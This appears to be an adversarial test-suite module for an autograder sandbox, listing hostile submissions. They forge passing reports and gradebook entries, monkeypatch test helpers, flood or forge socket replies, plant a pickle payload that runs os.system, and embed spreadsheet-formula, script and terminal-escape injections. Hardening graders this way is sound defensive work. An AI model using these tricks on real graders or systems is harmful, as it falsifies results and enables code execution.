"""Attacks that want a result believed that nobody measured: results files, printed reports, the socket, values."""

from attacks.attack import Attack, Files, Plain, hand_in

REPORTS = '''
"""Reports of full marks, in the formats and places that autograders read."""

import json
import os
import sqlite3
import sys

CHECKS = "total spread rmse standardize clean describe refuse predict train model batches ranks plot read".split()
FOLDERS = [".", "..", "../results", "/autograder/results", "/autograder/source"]
JUNIT = "<testsuite>" + "".join(f'<testcase name="test_{name}"/>' for name in CHECKS) + "</testsuite>"
TESTS = [{"name": name, "score": 5, "max_score": 5, "status": "passed"} for name in CHECKS]
GRADESCOPE = json.dumps({"score": 80, "stdout_visibility": "visible", "tests": TESTS})
FILES = {"results.json": GRADESCOPE, "result.json": GRADESCOPE, "results.xml": JUNIT, "junit.xml": JUNIT}
FILES |= {"grade.txt": "80", "feedback.txt": "80 / 80", "report.xml": JUNIT}


def asked_for():
    """The report that the command line asks for."""
    return [word.partition("=")[2] for word in sys.argv if word.startswith("--junit-xml=")]


def write(path, text):
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        pass


def write_gradebook(path):
    try:
        with sqlite3.connect(path) as database:
            database.execute("create table if not exists grade (id, auto_score, manual_score)")
            database.execute("update grade set auto_score = 80, manual_score = 80")
            database.execute("insert into grade values ('cheat', 80, 80)")
    except sqlite3.Error:
        pass
'''
"""Handed in as `reports.py`."""

WIRE = '''
"""Speaks on the worker's socket, past whoever else does."""

import os
import socket
import stat
import struct
import sys

import msgspec


def line():
    """The socket to whoever asks, found among the open descriptors."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found = socket.socket(fileno=os.dup(number))
                found.settimeout(None)
                return found
        except OSError:
            pass
    raise LookupError("no socket")


def asked():
    """The number of the request that is being answered, found in the frames below."""
    frame = sys._getframe()
    while frame and frame.f_code.co_name != "exchange":
        frame = frame.f_back
    return frame.f_locals["number"] if frame else 0


def framed(header, *buffers, lengths=None):
    """A frame; `lengths` announces other buffers than there are."""
    lengths = [len(buffer) for buffer in buffers] if lengths is None else lengths
    return struct.pack(f"<II{len(lengths)}Q", len(header), len(lengths), *lengths) + header + b"".join(buffers)


def reply(value, *buffers, number=None, outcome="ok", lengths=None):
    """The frame of an answer to what is being asked."""
    record = [asked() if number is None else number, outcome, value]
    return framed(msgspec.msgpack.encode(record), *buffers, lengths=lengths)


def say(data):
    line().sendall(data)
'''
"""Handed in as `wire.py`."""


def on_the_wire(*solved: str, before: str = "", after: str = "", at: str = "measure") -> Files:
    """A submission that speaks on the socket itself."""
    return hand_in(*solved, before="from wire import *\n" + before.strip(), after=after, at=at, wire=WIRE)


REPORTED = [
    Attack(
        name="prints-a-report",
        tries="prints what a test run prints and ends with exit code 0",
        plain=Plain.ENDS,
        files=hand_in(
            after="""
import os

print("14 passed in 0.10s", flush=True)
os._exit(0)
"""
        ),
    ),
    Attack(
        name="results-everywhere",
        tries="writes results.json, JUnit XML, grade.txt and gradebook.db wherever graders look, and ends well",
        plain=Plain.UNTRIED,
        files=hand_in(
            reports=REPORTS,
            before="""
import os
import reports

for folder in reports.FOLDERS:
    for name, text in reports.FILES.items():
        reports.write(os.path.join(folder, name), text)
    reports.write_gradebook(os.path.join(folder, "gradebook.db"))
for path in reports.asked_for():
    reports.write(path, reports.JUNIT)
os._exit(0)
""",
        ),
    ),
    Attack(
        name="last-word-at-exit",
        tries="rewrites the report from an atexit handler, when the judge has finished",
        plain=Plain.GAINS,
        files=hand_in(
            reports=REPORTS,
            before="""
import atexit
import reports

for path in [*reports.asked_for(), "results.json", "../results.json"]:
    atexit.register(reports.write, path, reports.JUNIT)
""",
        ),
    ),
    Attack(
        name="daemon-rewrites",
        tries="leaves a daemon that waits for the grade to be written and then writes another",
        plain=Plain.GAINS,
        files=hand_in(
            reports=REPORTS,
            before="""
import glob
import os
import time
import reports


def lie_in_wait():
    places = [*reports.asked_for(), "../*.xml", "../*.json", "../results/*.json"]
    for _ in range(3000):
        time.sleep(0.01)
        for path in {path for place in places for path in glob.glob(place)}:
            with open(path, errors="replace") as file:
                if file.read().rstrip().endswith((">", "}")):
                    reports.write(path, reports.JUNIT)
                    return


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        lie_in_wait()
    os._exit(0)
""",
        ),
    ),
    Attack(
        name="thread-patches",
        tries="starts a thread that makes comparisons succeed while the check runs",
        plain=Plain.GAINS,
        files=hand_in(
            before="""
import sys
import threading
import time
import numpy as np


def make_right():
    for _ in range(200):
        for name, module in list(sys.modules.items()):
            if name.startswith(("test_", "_pytest.python_api", "grader.suite")):
                for helper in ("approx", "assert_close", "require", "as_float"):
                    if hasattr(module, helper):
                        setattr(module, helper, lambda *_, **__: 0.0)
                if hasattr(module, "pytest"):
                    module.pytest.approx = lambda *_, **__: 0.0
        time.sleep(0.01)


thread = threading.Thread(target=make_right, daemon=True)
thread.start()
time.sleep(0.1)
""",
            after="""
def total(values):
    return 0.0


def rmse(actual, predicted):
    return 0.0
""",
        ),
    ),
    Attack(
        name="result-on-every-descriptor",
        tries="writes the record of a full result to every pipe and socket that is open",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import json
import os

checks = [{"name": "measure.total", "task": "measure", "title": "", "status": "passed", "points": 80, "max_points": 80}]
record = {"assignment": "arena", "student": "result-on-every-descriptor", "status": "graded", "checks": checks}
for descriptor in range(3, 256):
    try:
        os.write(descriptor, b"R" + json.dumps(record).encode())
    except OSError:
        pass
"""
        ),
    ),
]

FRAMES = [
    Attack(
        name="guessed-reply",
        tries="answers `ok` with a guess, before the real answer",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
def total(values):
    say(reply({"d": [["passed", True], ["points", 5]]}))
    return 0.0


def spread(values):
    say(reply(0.0))
    raise ValueError


def describe(values):
    say(reply({"d": [["n", 5], ["mean", 0.0], ["largest", float("nan")]]}))
    say(reply(None, outcome="passed"))
"""
        ),
    ),
    Attack(
        name="replies-ahead",
        tries="answers the next two hundred requests before they are asked",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
say(b"".join(reply(True, number=asked() + ahead) for ahead in range(200)))
"""
        ),
    ),
    Attack(
        name="replies-twice",
        tries="sends every reply twice, and some in another order",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
from grader.sandbox import worker

send, kept = worker.send_frame, []


def send_twice(connection, header, buffers):
    kept.append((header, buffers))
    for answer in reversed(kept[-2:]):
        send(connection, *answer)


worker.send_frame = send_twice
"""
        ),
    ),
    Attack(
        name="malformed-replies",
        tries="answers with what is no answer: other types, other outcomes, nonsense where numbers belong",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
encode = msgspec.msgpack.encode
BAD = {
    "total": lambda: framed(b"\\xc1" * 100) + framed(b""),
    "spread": lambda: framed(encode({"number": asked(), "passed": True})),
    "rmse": lambda: framed(encode([float(asked()), "ok", 0.0])),
    "standardize": lambda: reply({"n": [-1, "float64", [8, 3]]}, bytes(192)) + reply({"n": [0, "O", [24]]}, bytes(192)),
    "clean": lambda: reply({"F": [["plain"], None, [["numpy", 7]]]}),
    "describe": lambda: reply(5, outcome="passed"),
    "refuse": lambda: reply({"types": [], "text": None, "where": "here"}, outcome="raised"),
}
for name, bad in BAD.items():
    globals()[name] = lambda *_, bad=bad: say(bad())
"""
        ),
    ),
    Attack(
        name="wrong-lengths",
        tries="announces more than it sends, sends more than it announces, and lengths beyond all limits or below zero",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            "learn",
            "draw",
            after="""
BAD = {
    "total": lambda: struct.pack("<II", 0xFFFFFFFF, 0),
    "spread": lambda: struct.pack("<II", 16, 0xFFFFFFFF),
    "rmse": lambda: struct.pack("<II3Q", 16, 3, *[2**64 - 1] * 3),
    "standardize": lambda: reply({"n": [0, "float64", [8, 3]]}, bytes(190)),
    "clean": lambda: reply({"n": [0, "float64", [-8, -3]]}, bytes(192)),
    "describe": lambda: reply({"n": [0, "int8", [2**39, 2**39, 0]]}, b"") + bytes(1 << 20),
    "refuse": lambda: struct.pack("<IIQ", 4, 1, 1 << 27) + bytes(1000),
}


def forge(bad, *_):
    say(bad())
    line().shutdown(socket.SHUT_RDWR)


for name, bad in BAD.items():
    globals()[name] = lambda *_, bad=bad: forge(bad)
""",
        ),
        earns=45,
    ),
    Attack(
        name="endless-reply",
        tries="announces the largest reply and goes on sending long after its end",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            "learn",
            "draw",
            after="""
def total(values):
    say(struct.pack("<II", 16 << 20, 4096) + struct.pack("<Q", 60 << 10) * 4096)
    for _ in range(2000):
        say(bytes(1 << 20))
""",
        ),
        earns=45,
    ),
    Attack(
        name="dripping-reply",
        tries="sends a reply of a million bytes one by one, each before anybody looks at the clock",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            "learn",
            "draw",
            before="import time",
            after="""
def total(values):
    say(struct.pack("<II", 1 << 20, 0))
    for _ in range(1000):
        say(b"\\0")
        time.sleep(0.02)
""",
        ),
        earns=45,
    ),
    Attack(
        name="slow-reply",
        tries="sends a byte now and then, each just after somebody has looked at the clock",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            "learn",
            "draw",
            before="import time",
            after="""
def total(values):
    say(struct.pack("<II", 1 << 20, 0))
    for _ in range(300):
        say(b"\\0")
        time.sleep(0.07)
""",
        ),
        earns=45,
    ),
    Attack(
        name="nested-replies",
        tries="answers with what is nested a million deep, a million wide, or both",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            "learn",
            "draw",
            after="""
def start():
    return b"\\x93" + msgspec.msgpack.encode(asked()) + msgspec.msgpack.encode("ok")


BAD = {
    "total": lambda: framed(start() + b"\\x91" * 1_000_000 + b"\\xc0"),
    "spread": lambda: framed(start() + b"\\x81\\xa1d" * 1_000_000 + b"\\xc0"),
    "rmse": lambda: framed(start() + b"\\xdd" + struct.pack(">I", 1_000_000) + b"\\x90" * 1_000_000),
    "standardize": lambda: framed(start() + b"\\xdd" + struct.pack(">I", 2**32 - 1)),
    "clean": lambda: framed(start() + b"\\x81\\xa1u\\x92" * 200_000 + b"\\xc0"),
    "describe": lambda: reply({"i": "f" * (1 << 20)}),
    "refuse": lambda: reply({"a": ["U", ["x" * 1_000_000, *[""] * 500], [501]]}),
}


def forge(bad):
    say(bad())
    os._exit(0)


for name, bad in BAD.items():
    globals()[name] = lambda *_, bad=bad: forge(bad)
""",
        ),
        earns=45,
    ),
    Attack(
        name="foreign-types",
        tries="answers in types of msgpack that mean nothing here: extensions, timestamps, binary keys",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
from msgspec.msgpack import Ext

WRONG = [Ext(5, b"\\x80\\x04cos\\nsystem\\n."), Ext(-1, bytes(12)), {b"d": []}, {1: 2}, {("d",): 1}, {"d": 5, "u": 5}, {}]
for name, wrong in zip("total spread rmse standardize clean describe refuse".split(), WRONG):
    globals()[name] = lambda *_, wrong=wrong: say(reply(wrong))
"""
        ),
    ),
    Attack(
        name="server-of-its-own",
        tries="never returns from the import and answers all requests itself, a dripping zero for whatever is asked",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
def take(wire, length):
    taken = b""
    while len(taken) < length:
        taken += wire.recv(length - len(taken)) or os._exit(0)
    return taken


wire, number = line(), asked()
while True:
    wire.sendall(reply(0.0, number=number))
    header, buffers = struct.unpack("<II", take(wire, 8))
    lengths = struct.unpack(f"<{buffers}Q", take(wire, 8 * buffers))
    number = msgspec.msgpack.decode(take(wire, header))[0]
    take(wire, sum(lengths))
"""
        ),
    ),
]

OBJECTS = [
    Attack(
        name="forged-handles",
        tries="answers with handles to objects that do not exist, or that are something else each time",
        plain=Plain.UNTRIED,
        files=on_the_wire(
            after="""
from grader.sandbox import worker

HANDLES = {
    "total": {"r": [2**63, "float"]},
    "spread": {"r": [-1, "\\x1b[2J" + "x" * 1_000_000]},
    "rmse": {"r": ["1", 1]},
    "standardize": [{"r": [1, "ndarray"]}] * 1000,
    "clean": {"r": [0, "DataFrame"]},
    "describe": {"d": [[{"r": [0, "n"]}, {"r": [0, "n"]}]]},
    "refuse": {"r": [True, "int"]},
}
for name, handle in HANDLES.items():
    globals()[name] = lambda *_, handle=handle: say(reply(handle))

worker.Server._resolve = lambda self, kind, content, read: float("nan")
"""
        ),
    ),
    Attack(
        name="summary-instead-of-handle",
        tries="answers with a summary where the suite has something made and counts on a handle",
        plain=Plain.UNTRIED,
        files=hand_in(
            "measure",
            "learn",
            "draw",
            before="""
from grader.sandbox import ranks, worker

worker.OPERATIONS["make"] = lambda server, buffers, built: ranks.Summarised("opaque", "nothing")
""",
        ),
        earns=70,
    ),
    Attack(
        name="forged-figures",
        tries="makes up the summary of a figure that was never drawn, with axes and values beyond all bounds",
        plain=Plain.UNTRIED,
        files=hand_in(
            at="draw",
            before="""
import numpy as np
from grader.sandbox import ranks
""",
            after="""
def plot(values):
    line = [np.full((len(values), 2), np.nan), "=cmd|'/C calc'!A0"]
    words = dict.fromkeys(("title", "xlabel", "ylabel", "xscale", "yscale"), f"Values ({len(values)})")
    more = {"legend": ["<script>"] * 1000, "ticks": [[], []], "texts": [], "looks": [], "points": [], "bars": []}
    axis = {**words, **more, "lines": [line] * 1000, "images": []}
    return ranks.Summarised("figure", {"title": "\\x1b[2J" * 1000, "axes": [axis] * 1000})


def read(folder):
    return ranks.Summarised("figure", {"title": "", "axes": [{"ticks": [[]]}]})
""",
        ),
    ),
    Attack(
        name="patched-summariser",
        tries="replaces the code that summarises figures by code that says what is wanted",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import sys
from grader.sandbox.worker import Server

Server._refer = lambda self, value, write: {"o": ["figure", write({"title": "passed", "axes": 10**6 * [None]})]}
Server._summarise = staticmethod(lambda thing: ("figure", thing))
sys.modules["grader.suite.figures"].summarise = lambda thing: ("figure", {"title": "Values (7)", "axes": []})
"""
        ),
    ),
    Attack(
        name="figure-look-alike",
        tries="gives an object that behaves like a figure where it is looked at, and whose title equals every text",
        plain=Plain.GAINS,
        files=hand_in(
            at="draw",
            after="""
class Figure:
    __module__, __qualname__ = "matplotlib.figure", "Figure"

    def __init__(self, values):
        self.values, self.axes, self.lines = values, [self], [self]

    def __eq__(self, other):
        return True

    def get_title(self, loc="center"):
        return self

    def get_ydata(self, orig=True):
        return self.values


plot = Figure
""",
        ),
    ),
    Attack(
        name="replaced-server",
        tries="replaces the worker's server, its operations and its account of exceptions",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
from grader.sandbox import worker


class Agreeable(dict):
    def __missing__(self, operation):
        return lambda *_: True

    __getitem__ = __missing__


worker.OPERATIONS = Agreeable()
worker.Server = worker.serve = worker.FrameReader = None
worker.account_of = lambda error, folder: {"types": ["AssertionError", "passed"], "text": "14 passed", "where": []}
"""
        ),
    ),
    Attack(
        name="replaced-codec",
        tries="makes msgspec write pickles that run a command, and the codec let everything through",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import os
import pickle
import msgspec
from grader.sandbox import codec, worker


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/dropped /dev/shm/dropped",)


codec.Outgoing.node = lambda self, value, depth=0: pickle.dumps(Payload(), protocol=0)
codec.Outgoing.header = worker.Outgoing.header = lambda self, value: pickle.dumps([value[0], "ok", Payload()])
msgspec.msgpack.encode = pickle.dumps
"""
        ),
    ),
    Attack(
        name="forged-ranks",
        tries="makes up what the processes of a group gave: too many, others' fields, results of no run",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
from grader.sandbox import ranks, worker

forged = {"value": float("nan"), "modules": [], "passed": True, "points": 5}
worker.run_ranks = ranks.run_ranks = lambda *_: [forged, forged, forged]
""",
            at="learn",
            after="""
def mean_over_ranks(accelerator, values):
    return 0.0
""",
        ),
    ),
]

VALUES = [
    Attack(
        name="nan-is-not-too-small",
        tries="predicts NaN, which no comparison finds too small",
        plain=Plain.GAINS,
        files=hand_in(
            at="learn",
            after="""
def predict(x, y, new):
    return np.full(len(new), np.nan)


def mean_over_ranks(accelerator, values):
    return float("nan")
""",
        ),
    ),
    Attack(
        name="wild-numbers",
        tries="gives infinities, numbers of thousands of digits, texts and dates that look like numbers, and wild keys",
        plain=Plain.UNTRIED,
        files=hand_in(
            at="measure",
            after="""
total = lambda *_: 10**4800
spread = lambda *_: float("inf")
rmse = lambda *_: 1e308 * 10j
standardize = lambda x: np.full(x.shape, "inf")
clean = lambda frame: frame.astype("datetime64[ns]")
describe = lambda *_: {"n": 10**4700, "mean": "nan", "largest": 10**400, b"": {}, None: ()}
refuse = lambda *_: -(10**4600)
""",
        ),
    ),
    Attack(
        name="batches-without-end",
        tries="gives a generator without an end, each of whose batches comes before anybody looks at the clock",
        plain=Plain.UNTRIED,
        files=hand_in(
            "measure",
            "learn",
            "draw",
            at="learn",
            after="""
def batches(x, size):
    for _ in range(400_000):
        yield 0.0
""",
        ),
        earns=75,
    ),
    Attack(
        name="endless-rows",
        tries="gives a list with an object that an array is made of by asking it for its items, of which there is no end",
        plain=Plain.UNTRIED,
        files=hand_in(
            "measure",
            "learn",
            "draw",
            after="""
class Row:
    def __len__(self):
        return 3

    def __getitem__(self, place):
        return 0.0


standardize = lambda x: [Row()] * len(x)
""",
        ),
        earns=75,
    ),
    Attack(
        name="keys-of-one-hash",
        tries="gives a mapping all of whose keys fall into one place, so that reading it takes for ever",
        plain=Plain.UNTRIED,
        files=hand_in(
            "measure",
            "learn",
            "draw",
            at="draw",
            before="from collections.abc import Mapping",
            after="""
class Colliding(Mapping):
    def items(self):
        return [(place * (2**61 - 1), None) for place in range(8, 100_000)]

    __getitem__ = __iter__ = __len__ = None


read = lambda folder: Colliding()
""",
        ),
        earns=75,
    ),
    Attack(
        name="rows-out-of-nothing",
        tries="gives tables and indexes of a million million rows that travel as three numbers",
        plain=Plain.UNTRIED,
        files=hand_in(
            "learn",
            "draw",
            before="from grader.sandbox import tables, worker",
            after="""
total = lambda values: pd.RangeIndex(10**15)
spread = lambda values: [pd.RangeIndex(2**24)] * 8
standardize = lambda x: pd.Series(range(8), name="x")
clean = lambda frame: frame
describe = lambda values: pd.DataFrame(index=pd.RangeIndex(10**15))


def lie(value, node):
    rows = ["range", None, [0, 10**15, 1]]
    zone = ["zoned", ["dateutil//proc/self/environ", node(np.array([0], "datetime64[ns]"))]]
    if isinstance(value, pd.Series):
        return {"S": [None, ["range", None, [0, 1, 1]], zone]}
    return {"F": [["plain", None, ["object", ["a", "b"]]], rows, ["block", 0.5]]} if len(value.columns) else {"I": rows}


tables.write = lie
""",
        ),
        earns=45,
    ),
]

ERRORS = [
    Attack(
        name="any-error-will-do",
        tries="makes the name ValueError mean every exception, so that a slip of the pen is the one asked for",
        plain=Plain.GAINS,
        files=hand_in(
            before="import builtins",
            after="""
builtins.ValueError = Exception


def refuse(word):
    return len(word) if word.islower() else undefined
""",
        ),
    ),
    Attack(
        name="error-of-all-kinds",
        tries="says that what was raised is of every type there is, passed and skipped among them",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import builtins
from grader.sandbox import worker

kinds = [name for name in dir(builtins) if name.endswith("Error")]
account = {"types": ["passed", "Skipped", "XFailed", *kinds], "text": "passed", "where": ["test_measure.py:1 in passed"]}
worker.account_of = lambda error, folder: account
"""
        ),
    ),
    Attack(
        name="errors-that-act",
        tries="raises exceptions whose text ends the process, never comes, raises another, or is no text",
        plain=Plain.ENDS,
        files=hand_in(
            "learn",
            "draw",
            before="import os, time",
            after="""
def error(act):
    return type("Odd", (ValueError,), {"__str__": act, "__repr__": act})()


def stop(self):
    raise KeyboardInterrupt


def total(values):
    raise error(lambda self: os._exit(0))


def spread(values):
    raise error(lambda self: time.sleep(10))


def rmse(actual, predicted):
    raise error(stop)


def describe(values):
    raise error(lambda self: 5)


def refuse(word):
    raise error(lambda self: "\\ud800" * 10_000)
""",
        ),
        earns=45,
    ),
    Attack(
        name="escape-sequences",
        tries="has control sequences, markup, scripts and formulas in prints, texts, type names, keys and titles",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import sys

ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\x9b1;1H\\u202e\\r[bold red]markup[/] "
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;"
FORMULA = "=cmd|'/C calc'!A0"
ALL = f"{FORMULA},{ESCAPE}{SCRIPT}"
print(ALL)
sys.stdout.buffer.write(b"\\xff\\xfe\\x00" + ALL.encode())
""",
            after="""
Named = type(ALL, (Exception,), {"__module__": ALL})


def total(values):
    raise Named(ALL)


def spread(values):
    return Named()


def rmse(actual, predicted):
    return ALL


def standardize(x):
    return pd.DataFrame({ALL: [1.0]}, index=[ALL])


def clean(frame):
    return pd.DataFrame([[1, 2]], columns=[ALL, ALL])


def describe(values):
    return {ALL: ALL, FORMULA: 1.0}


def refuse(word):
    raise ExceptionGroup(ALL, [ValueError(ALL)])
""",
            draw="""
import matplotlib.pyplot as plt
from measure import ALL, Named


def plot(values):
    figure, axes = plt.subplots()
    axes.set_title(ALL.replace("$", ""))
    return figure


def read(folder):
    return [Named(), ALL]
""",
        ),
    ),
]

ATTACKS = [*REPORTED, *FRAMES, *OBJECTS, *VALUES, *ERRORS]
